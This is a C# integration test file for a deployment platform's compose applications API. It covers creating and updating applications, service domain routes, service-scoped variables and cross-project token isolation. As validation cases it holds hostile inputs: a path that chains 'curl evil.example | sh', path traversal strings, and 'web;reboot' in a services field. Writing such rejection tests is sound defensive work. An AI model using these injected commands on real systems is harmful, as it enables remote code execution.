using System.Net;
using GoForge.Core.Identity;
using GoForge.Core.Identity.ApiTokens;
using GoForge.Tests.Harness;
using GoForge.Tests.Support;

namespace GoForge.Tests.Api;

/// <summary>Compose applications over /api/v1 (real PostgreSQL; nothing is deployed): create, read, update, per-service domains, variables limited to services.</summary>
[Collection(PostgresCollection.Name)]
public sealed class ApiComposeApplicationTests(PostgresFixture postgres) : IAsyncLifetime
{
    private GoForgeApp _app = null!;
    private User _owner = null!;

    public async Task InitializeAsync()
    {
        _app = await GoForgeApp.StartAsync(postgres, "composeapi", services: GoForgeApp.WithoutDeploymentWorker);
        _owner = await _app.CreateUserAsync();
    }

    public async Task DisposeAsync() => await _app.DisposeAsync();

    private static object ComposeApp(string name, string? composePath, params string[] domains) => new
    {
        name,
        source = "compose",
        gitUrl = "https://git.example.com/acme/stack.git",
        branch = "main",
        composePath,
        domains,
    };

    [Fact]
    public async Task A_compose_application_is_created_read_back_and_its_compose_path_and_service_domains_changed()
    {
        var world = await ApiWorld.CreateAsync(_app, _owner, "Compose create");
        var client = await ClientAsync();
        var host = $"shop-{Guid.NewGuid():N}.example.com";

        var created = await client.SendAsync(HttpMethod.Post, $"/api/v1/environments/{world.Environment.Id}/applications",
            ComposeApp("stack", "./deploy/compose.yml", $"web: {host}", $"api: {host}/api"));
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        var id = (await created.JsonAsync()).GetProperty("id").GetGuid();
        var read = await (await client.GetAsync($"/api/v1/applications/{id}")).JsonAsync();
        var updated = await client.SendAsync(HttpMethod.Put, $"/api/v1/applications/{id}", ComposeApp("stack", "ops/docker-compose.yaml", $"front: {host}"));
        var after = await (await client.GetAsync($"/api/v1/applications/{id}")).JsonAsync();

        Assert.Equal("compose", read.GetProperty("source").GetString());
        Assert.Equal("deploy/compose.yml", read.GetProperty("composePath").GetString());
        Assert.Equal([$"web: {host}", $"api: {host}/api"], read.GetProperty("domains").EnumerateArray().Select(d => d.GetString()));
        var routes = read.GetProperty("routes").EnumerateArray().ToList();
        Assert.Equal([("web", host, (string?)null), ("api", host, "/api")],
            routes.Select(r => (r.GetProperty("service").GetString()!, r.GetProperty("host").GetString()!, r.GetProperty("pathPrefix").GetString())));
        Assert.Equal(HttpStatusCode.OK, updated.StatusCode);
        Assert.Equal("ops/docker-compose.yaml", after.GetProperty("composePath").GetString());
        Assert.Equal("front", Assert.Single(after.GetProperty("routes").EnumerateArray().ToList()).GetProperty("service").GetString());
    }

    [Fact]
    public async Task A_git_application_answers_no_compose_path_and_routes_without_a_service()
    {
        var world = await ApiWorld.CreateAsync(_app, _owner, "Git read");
        var client = await ClientAsync();

        var read = await (await client.GetAsync($"/api/v1/applications/{world.Application.Id}")).JsonAsync();

        Assert.Equal("git", read.GetProperty("source").GetString());
        Assert.Equal(System.Text.Json.JsonValueKind.Null, read.GetProperty("composePath").ValueKind);
        Assert.Equal(System.Text.Json.JsonValueKind.Null, Assert.Single(read.GetProperty("routes").EnumerateArray().ToList()).GetProperty("service").ValueKind);
    }

    [Theory]
    [InlineData("../x.yml", "composePath")]
    [InlineData("/etc/compose.yml", "composePath")]
    [InlineData("-rf.yml", "composePath")]
    [InlineData("a/../../b.yml", "composePath")]
    [InlineData("compose.yml && curl evil.example | sh", "composePath")]
    [InlineData("ｃompose.yml", "composePath")]
    public async Task A_hostile_compose_path_is_400_naming_the_field_and_nothing_is_created(string path, string field)
    {
        var world = await ApiWorld.CreateAsync(_app, _owner, "Compose hostile");
        var client = await ClientAsync();

        var refused = await client.SendAsync(HttpMethod.Post, $"/api/v1/environments/{world.Environment.Id}/applications", ComposeApp("hostile", path));

        var problem = await refused.AssertProblemAsync(400);
        Assert.Equal([field], problem.GetProperty("errors").EnumerateObject().Select(p => p.Name));
        var list = await (await client.GetAsync($"/api/v1/environments/{world.Environment.Id}/applications")).JsonAsync();
        Assert.DoesNotContain("hostile", list.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_domain_without_a_service_a_huge_path_and_a_switch_to_git_are_400_naming_their_fields()
    {
        var world = await ApiWorld.CreateAsync(_app, _owner, "Compose fields");
        var client = await ClientAsync();
        var path = $"/api/v1/environments/{world.Environment.Id}/applications";

        var unnamed = await client.SendAsync(HttpMethod.Post, path, ComposeApp("unnamed", null, $"u-{Guid.NewGuid():N}.example.com"));
        var huge = await client.SendAsync(HttpMethod.Post, path, ComposeApp("huge", new string('a', 300_000) + ".yml"));
        var toGit = await client.SendAsync(HttpMethod.Put, $"/api/v1/applications/{world.ComposeApplication.Id}",
            new { name = world.ComposeApplication.Name, gitUrl = "https://git.example.com/acme/stack.git" });

        Assert.True((await unnamed.AssertProblemAsync(400)).GetProperty("errors").TryGetProperty("domains", out _));
        Assert.True((await huge.AssertProblemAsync(400)).GetProperty("errors").TryGetProperty("composePath", out _));
        Assert.True((await toGit.AssertProblemAsync(400)).GetProperty("errors").TryGetProperty("source", out _));
    }

    [Fact]
    public async Task Another_projects_compose_application_is_404_to_a_token_restricted_to_this_project()
    {
        var target = await ApiWorld.CreateAsync(_app, _owner, "Compose target");
        var mine = await ApiWorld.CreateAsync(_app, _owner, "Compose mine");
        var client = _app.TokenClient(await _app.CreateTokenAsync(_owner, ApiScope.Read | ApiScope.Write, mine.Project.Id));
        var app = $"/api/v1/applications/{target.ComposeApplication.Id}";

        var read = await client.GetAsync(app);
        var update = await client.SendAsync(HttpMethod.Put, app, ComposeApp("hijacked", "evil.yml"));
        var variable = await client.SendAsync(HttpMethod.Put, $"{app}/variables/STOLEN", new { value = "1", services = new[] { "web" } });

        await read.AssertProblemAsync(404);
        await update.AssertProblemAsync(404);
        await variable.AssertProblemAsync(404);
        var owner = await ClientAsync();
        Assert.Equal("deploy/compose.yaml", (await (await owner.GetAsync(app)).JsonAsync()).GetProperty("composePath").GetString());
    }

    [Fact]
    public async Task A_variable_is_limited_to_services_kept_when_left_out_and_widened_by_an_empty_list()
    {
        var world = await ApiWorld.CreateAsync(_app, _owner, "Compose vars");
        var client = await ClientAsync();
        var variables = $"/api/v1/applications/{world.ComposeApplication.Id}/variables";

        var set = await client.SendAsync(HttpMethod.Put, $"{variables}/QUEUE", new { value = "q", services = new[] { "worker", "web" } });
        var scoped = await ServicesOfAsync(client, variables, "QUEUE");
        var changed = await client.SendAsync(HttpMethod.Put, $"{variables}/QUEUE", new { value = "q2" });
        var kept = await ServicesOfAsync(client, variables, "QUEUE");
        var widened = await client.SendAsync(HttpMethod.Put, $"{variables}/QUEUE", new { services = Array.Empty<string>() });
        var every = await ServicesOfAsync(client, variables, "QUEUE");
        var onGit = await client.SendAsync(HttpMethod.Put, $"/api/v1/applications/{world.Application.Id}/variables/QUEUE", new { value = "q", services = new[] { "web" } });
        var malformed = await client.SendAsync(HttpMethod.Put, $"{variables}/BAD", new { value = "q", services = new[] { "web;reboot" } });

        Assert.Equal(HttpStatusCode.NoContent, set.StatusCode);
        Assert.Equal(["worker", "web"], scoped!);
        Assert.Equal(HttpStatusCode.NoContent, changed.StatusCode);
        Assert.Equal(["worker", "web"], kept!);
        Assert.Equal(HttpStatusCode.NoContent, widened.StatusCode);
        Assert.Null(every);
        Assert.True((await onGit.AssertProblemAsync(400)).GetProperty("errors").TryGetProperty("services", out _));
        Assert.True((await malformed.AssertProblemAsync(400)).GetProperty("errors").TryGetProperty("services", out _));
        Assert.Equal(["worker"], (await ServicesOfAsync(client, variables, "WORKER_ONLY"))!);
    }

    private static async Task<string[]?> ServicesOfAsync(HttpClient client, string variables, string key)
    {
        var page = await (await client.GetAsync(variables)).JsonAsync();
        var services = page.GetProperty("items").EnumerateArray().Single(v => v.GetProperty("key").GetString() == key).GetProperty("services");
        return services.ValueKind == System.Text.Json.JsonValueKind.Null ? null : services.EnumerateArray().Select(s => s.GetString()!).ToArray();
    }

    private async Task<HttpClient> ClientAsync() => _app.TokenClient(await _app.CreateTokenAsync(_owner, ApiScope.Read | ApiScope.Write));
}
